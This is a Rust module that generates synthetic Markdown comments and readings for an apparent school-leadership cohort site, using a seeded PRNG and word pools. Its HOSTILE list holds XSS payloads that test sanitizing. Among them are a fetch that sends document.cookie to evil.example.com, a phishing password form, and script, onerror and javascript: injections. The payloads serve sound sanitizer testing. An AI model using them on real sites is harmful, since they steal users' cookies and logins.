//! Text for synthetic cohorts: a seeded PRNG, word pools and Markdown in the shapes members write.
//!
//! Everything here is built in (no external data) so that one seed always gives the same bytes.

/// splitmix64: tiny, fast, and the same sequence on every platform.
pub struct Rng(u64);

impl Rng {
    /// A generator for one item of a site, independent of how many numbers other items drew.
    pub fn derive(seed: u64, stream: u64, index: u64) -> Rng {
        let mut mixer =
            Rng(seed ^ stream.wrapping_mul(0xA24B_AED4_963E_E407) ^ index.wrapping_mul(0x9FB2_1C65_1E98_DF25));
        Rng(mixer.next())
    }

    /// The next 64 random bits.
    pub fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    /// A number in `0..n` (`n` > 0); the modulo bias is far below anything a benchmark sees.
    pub fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }

    /// A number in `low..=high`.
    pub fn between(&mut self, low: usize, high: usize) -> usize {
        low + self.below(high - low + 1)
    }

    /// True with probability `p`.
    pub fn chance(&mut self, p: f64) -> bool {
        (self.next() >> 11) as f64 / (1u64 << 53) as f64 <= p
    }

    /// One item of `items`.
    pub fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len())]
    }
}

/// Distinct first names, so each can be an alias of one person only.
pub const FIRST_NAMES: [&str; 60] = [
    "Athena", "Benjamin", "Claire", "Marcus", "Priya", "Grace", "Owen", "Sofia", "Hannah", "Ruth", "Daniel", "Amara",
    "Tomas", "Leila", "Isaac", "Naomi", "Felix", "Mei", "Gabriel", "Yusuf", "Ingrid", "Rafael", "Keiko", "Samuel",
    "Olivia", "Mateo", "Zainab", "Henry", "Lucia", "Arjun", "Beatrice", "Kofi", "Elena", "Dmitri", "Fatima", "Patrick",
    "Noor", "Victor", "Chiara", "Emeka", "Rosa", "Theo", "Aisha", "Jonah", "Freya", "Malik", "Ines", "Caleb", "Sunita",
    "Oscar", "Hana", "Julian", "Adaeze", "Lars", "Marisol", "Tariq", "Vera", "Andre", "Colette", "Desmond",
];

/// Family names; person `i` takes number `i * 7 % 60`, so every name is distinct.
pub const LAST_NAMES: [&str; 60] = [
    "Loopstra",
    "Okafor",
    "Dufresne",
    "Lindqvist",
    "Raman",
    "Whitfield",
    "Brennan",
    "Castellanos",
    "Mercer",
    "Adeyemi",
    "Kowalski",
    "Nakamura",
    "Fitzgerald",
    "Haddad",
    "Oduya",
    "Sorensen",
    "MacLeod",
    "Vasquez",
    "Takahashi",
    "Moreau",
    "Abernathy",
    "Chaudhry",
    "Delacroix",
    "Eriksen",
    "Gallagher",
    "Hoffmann",
    "Ivanova",
    "Jablonski",
    "Kaur",
    "Laurent",
    "Mbeki",
    "Novak",
    "Osei",
    "Petrov",
    "Quinlan",
    "Rossi",
    "Szabo",
    "Tremblay",
    "Uddin",
    "Valdez",
    "Wojcik",
    "Yilmaz",
    "Zimmer",
    "Ahmadi",
    "Bergstrom",
    "Cardoso",
    "Dubois",
    "Esposito",
    "Fournier",
    "Gupta",
    "Halvorsen",
    "Ibrahim",
    "Jensen",
    "Kimani",
    "Lavoie",
    "Mendoza",
    "Nilsson",
    "Ortega",
    "Pereira",
    "Reyes",
];

/// People who are in no `authors.yaml`: each becomes a person of their own.
pub const GUESTS: [&str; 6] =
    ["Lena Park", "Dr. Howard Kim", "Trustee Jo Alvarez", "Mo Rahimi", "Superintendent Bell", "Kate from IT"];

/// Topic tags (30).
pub const TAGS: [&str; 30] = [
    "trust",
    "feedback",
    "relationships",
    "client-centred focus",
    "change management",
    "coaching",
    "equity",
    "data literacy",
    "instructional leadership",
    "school culture",
    "communication",
    "time management",
    "parent engagement",
    "student voice",
    "professional learning",
    "conflict",
    "decision making",
    "well-being",
    "assessment",
    "inclusion",
    "mentoring",
    "vision",
    "accountability",
    "collaboration",
    "reflection",
    "listening",
    "difficult conversations",
    "budget",
    "scheduling",
    "community",
];

/// Titles of readings.
pub const TITLES: [&str; 36] = [
    "Keeping a Client-centred Focus",
    "Feedback That Lands",
    "Trust in Teams",
    "Leading Change",
    "Leader Rounding",
    "The First Ninety Days",
    "Listening Before Speaking",
    "Meetings Worth Having",
    "Data With a Face",
    "The Courage to Disagree",
    "Coaching, Not Telling",
    "Protecting Time to Teach",
    "Small Wins",
    "When Parents Push Back",
    "Equity in the Timetable",
    "Naming the Hard Thing",
    "Delegation Without Dumping",
    "Rituals of a Healthy Staff Room",
    "Walk-throughs That Help",
    "Saying No Kindly",
    "The Second Year Slump",
    "Budgets Are Values",
    "Student Voice at the Table",
    "Repairing a Broken Meeting",
    "Vision Without Slogans",
    "Follow-through",
    "Leading Peers",
    "Sustaining Yourself",
    "Hiring for Fit and Stretch",
    "Mistakes in Public",
    "Decisions and Who Makes Them",
    "Celebrating Well",
    "The Quiet Staff Member",
    "Planning the Last Month",
    "What Good Looks Like",
    "Handing Over the Keys",
];

/// Books that readings are excerpted from: title, authors, publisher.
pub const BOOKS: [(&str, &[&str], &str); 8] = [
    (
        "The Client in the Room: Schools That Start With Students",
        &["Marguerite Halloway", "Desmond Achebe-Clarke"],
        "Lakeshore Education Press",
    ),
    ("Rounds of the Building", &["Petra Vasquez-Lund", "Howard Kimani"], "Cedar Ridge Publishing"),
    ("Leading Every Day", &["Joyce Kaser", "Susan Mundry"], "Corwin Press"),
    ("The Patient Principal", &["Abel Ferreira"], "Northfield Books"),
    ("Teams That Tell the Truth", &["Ruth Osterberg", "Kwame Mensah", "Lise Caron"], "Harbour Street Press"),
    ("Small Schools, Big Questions", &["Imogen Tate"], "Lakeshore Education Press"),
    ("After the Bell: Culture in Secondary Schools", &["Farid Nassar", "Jean Morrow"], "Cedar Ridge Publishing"),
    ("Coaching Conversations", &["Dana Whitlock"], "Corwin Press"),
];

const OPENERS: [&str; 14] = [
    "",
    "",
    "",
    "Honestly, ",
    "In my building, ",
    "Last term, ",
    "For me, ",
    "This week ",
    "Looking back, ",
    "To be fair, ",
    "In our department, ",
    "When I started, ",
    "If I am honest, ",
    "Oddly enough, ",
];

const SUBJECTS: [&str; 24] = [
    "our staff meeting",
    "the attendance committee",
    "my first year as vice-principal",
    "the timetable",
    "every parent conversation",
    "the grade 9 team",
    "our school improvement plan",
    "the walk-through schedule",
    "a new teacher on my team",
    "the leadership team",
    "our coaching cycle",
    "the data wall",
    "the morning briefing",
    "each department head",
    "the student council",
    "our professional learning day",
    "the report card conference",
    "the hallway supervision roster",
    "my own calendar",
    "the special education team",
    "our union steward",
    "the board's new directive",
    "the Monday agenda",
    "the caretaking staff",
];

const VERBS: [&str; 18] = [
    "turned into",
    "depended on",
    "came down to",
    "was shaped by",
    "quietly rewarded",
    "kept circling back to",
    "made room for",
    "pushed aside",
    "started with",
    "needed more of",
    "showed me",
    "never quite reached",
    "leaned on",
    "lost sight of",
    "was rebuilt around",
    "paid for",
    "made visible",
    "protected",
];

const OBJECTS: [&str; 24] = [
    "the people it was meant to serve",
    "a clear next step",
    "trust we had not yet earned",
    "the voices we rarely hear",
    "one honest question",
    "the students at the margins",
    "a shared sense of purpose",
    "what the numbers could not say",
    "ten minutes of real listening",
    "the follow-up nobody owned",
    "the teachers who stay late",
    "a promise I had made in September",
    "the families who never call back",
    "the work nobody sees",
    "a decision we had already made",
    "the quiet kids in the back row",
    "our habit of rushing",
    "the last ten minutes of every meeting",
    "a simple checklist",
    "the person closest to the problem",
    "what we say we value",
    "the story behind the data",
    "a room full of tired people",
    "the questions we avoid",
];

const TAILS: [&str; 14] = [
    ".",
    ".",
    ".",
    " more than I expected.",
    ", and that surprised me.",
    " by the end of October.",
    " once we slowed down.",
    ", at least on paper.",
    " every single week.",
    " before anyone noticed.",
    " without anyone deciding it should.",
    ", which I am still thinking about.",
    " for most of the year.",
    " in ways I did not plan for.",
];

const HEADINGS: [&str; 10] = [
    "Start with the question",
    "What the research says",
    "In practice",
    "A note on trust",
    "Why it matters",
    "Three habits",
    "Where it goes wrong",
    "A story from the field",
    "Before you try it",
    "The week ahead",
];

const CODE: [&str; 8] =
    ["attendance.xlsx", "Ctrl+F", "#staff-room", "GR9-ENG", "=AVERAGE(B2:B30)", "P1-P4", "TODO", "v2-final.docx"];

/// Hostile HTML that members have been known to paste; every piece must be removed by sanitizing.
const HOSTILE: [&str; 10] = [
    "<script>alert('xss')</script>",
    "<img src=\"x\" onerror=\"alert(1)\">",
    "[free tickets](javascript:alert(document.cookie))",
    "<iframe src=\"https://evil.example.com/frame\" width=\"1\" height=\"1\"></iframe>",
    "<a href=\"javascript:void(fetch('https://evil.example.com/?c='+document.cookie))\">see my notes</a>",
    "<svg onload=\"alert(1)\"><circle r=\"40\"/></svg>",
    "<div style=\"position:fixed;inset:0\" onclick=\"location='https://evil.example.com'\">click here</div>",
    "<form action=\"https://evil.example.com/login\"><input name=\"password\"></form>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">open the summary</a>",
    "<style>body { display: none }</style>",
];

/// Appends one plain sentence.
fn sentence(rng: &mut Rng, out: &mut String) {
    let opener = *rng.pick(&OPENERS);
    let subject = *rng.pick(&SUBJECTS);
    if opener.is_empty() {
        let mut chars = subject.chars();
        let first = chars.next().expect("subjects are not empty");
        out.extend(first.to_uppercase());
        out.push_str(chars.as_str());
    } else {
        out.push_str(opener);
        out.push_str(subject);
    }
    out.push(' ');
    out.push_str(rng.pick::<&str>(&VERBS));
    out.push(' ');
    let object = *rng.pick(&OBJECTS);
    match rng.below(12) {
        0 => out.push_str(&format!("*{object}*")),
        1 => out.push_str(&format!("**{object}**")),
        _ => out.push_str(object),
    }
    out.push_str(rng.pick::<&str>(&TAILS));
}

/// Words of `text` wrapped at 78 columns, each line after the first starting with `indent`.
fn wrapped(text: &str, first: &str, indent: &str, out: &mut String) {
    let mut width = 0;
    out.push_str(first);
    width += first.len();
    for (i, word) in text.split(' ').enumerate() {
        if i > 0 && width + 1 + word.len() > 78 {
            out.push('\n');
            out.push_str(indent);
            width = indent.len();
        } else if i > 0 {
            out.push(' ');
            width += 1;
        }
        out.push_str(word);
        width += word.len();
    }
    out.push('\n');
}

/// A paragraph of `sentences` sentences, with an occasional link or code span.
fn paragraph(rng: &mut Rng, sentences: usize, lead: &str) -> String {
    let mut text = String::from(lead);
    for i in 0..sentences {
        if i > 0 {
            text.push(' ');
        }
        sentence(rng, &mut text);
    }
    if rng.chance(0.12) {
        let n = rng.below(900) + 100;
        text.push_str(&format!(" There is more in [the district's guide](https://example.org/district/guides/{n})."));
    }
    if rng.chance(0.1) {
        text.push_str(&format!(" I keep it all in `{}` for now.", rng.pick(&CODE)));
    }
    text
}

/// A list of `items` entries, bulleted or numbered.
fn list(rng: &mut Rng, items: usize, out: &mut String) {
    let numbered = rng.chance(0.3);
    for i in 0..items {
        let mut item = String::new();
        if rng.chance(0.5) {
            let mut lead = String::new();
            sentence(rng, &mut lead);
            let head: Vec<&str> = lead.trim_end_matches('.').split(' ').take(3).collect();
            item.push_str(&format!("**{}**: ", head.join(" ").replace('*', "")));
        }
        sentence(rng, &mut item);
        let marker = if numbered { format!("{}. ", i + 1) } else { "- ".to_string() };
        wrapped(&item, &marker, &" ".repeat(marker.len()), out);
    }
}

/// A member's comment of about `target` bytes; `mention` starts it with "@Name,".
pub fn comment(rng: &mut Rng, target: usize, mention: Option<&str>, hostile: bool) -> String {
    let mut out = String::with_capacity(target + 200);
    let lead = mention.map(|name| format!("@{name}, ")).unwrap_or_default();
    let sentences = rng.between(2, 4);
    wrapped(&paragraph(rng, sentences, &lead), "", "", &mut out);
    if hostile {
        out.push('\n');
        let hostile = *rng.pick(&HOSTILE);
        wrapped(&format!("Have a look at this: {hostile}"), "", "", &mut out);
    }
    let mut listed = false;
    while out.len() < target {
        out.push('\n');
        if !listed && rng.chance(0.15) {
            listed = true;
            let items = rng.between(2, 4);
            list(rng, items, &mut out);
        } else {
            let sentences = rng.between(2, 4);
            wrapped(&paragraph(rng, sentences, ""), "", "", &mut out);
        }
    }
    out
}

/// A reading's body of about `target` bytes: paragraphs, headings, a blockquote, a list and a link.
pub fn reading(rng: &mut Rng, target: usize, figure: Option<&str>) -> String {
    let mut out = String::with_capacity(target + 400);
    let sentences = rng.between(3, 5);
    wrapped(&paragraph(rng, sentences, ""), "", "", &mut out);
    if let Some(file) = figure {
        out.push_str(&format!("\n![A diagram of the cycle described below]({file})\n"));
    }
    out.push_str(&format!("\n## {}\n\n", rng.pick(&HEADINGS)));
    let sentences = rng.between(3, 5);
    wrapped(&paragraph(rng, sentences, ""), "", "", &mut out);
    out.push('\n');
    let items = rng.between(3, 5);
    list(rng, items, &mut out);
    out.push('\n');
    let mut quote = String::new();
    for i in 0..rng.between(2, 3) {
        if i > 0 {
            quote.push(' ');
        }
        sentence(rng, &mut quote);
    }
    wrapped(&quote, "> ", "> ", &mut out);
    while out.len() + 200 < target {
        out.push('\n');
        if rng.chance(0.2) {
            out.push_str(&format!("## {}\n\n", rng.pick(&HEADINGS)));
        }
        let sentences = rng.between(3, 6);
        wrapped(&paragraph(rng, sentences, ""), "", "", &mut out);
    }
    let mut question = String::from("**This week:** where in your own work has ");
    question.push_str(rng.pick::<&str>(&SUBJECTS));
    question.push(' ');
    question.push_str(rng.pick::<&str>(&VERBS));
    question.push(' ');
    question.push_str(rng.pick::<&str>(&OBJECTS));
    question.push_str("? Read more in [the cohort handbook](https://example.org/cohort/handbook).");
    out.push('\n');
    wrapped(&question, "", "", &mut out);
    out
}

/// One plain sentence, for summaries, bios and introductions.
pub fn line(rng: &mut Rng) -> String {
    let mut out = String::new();
    sentence(rng, &mut out);
    out.replace('*', "")
}
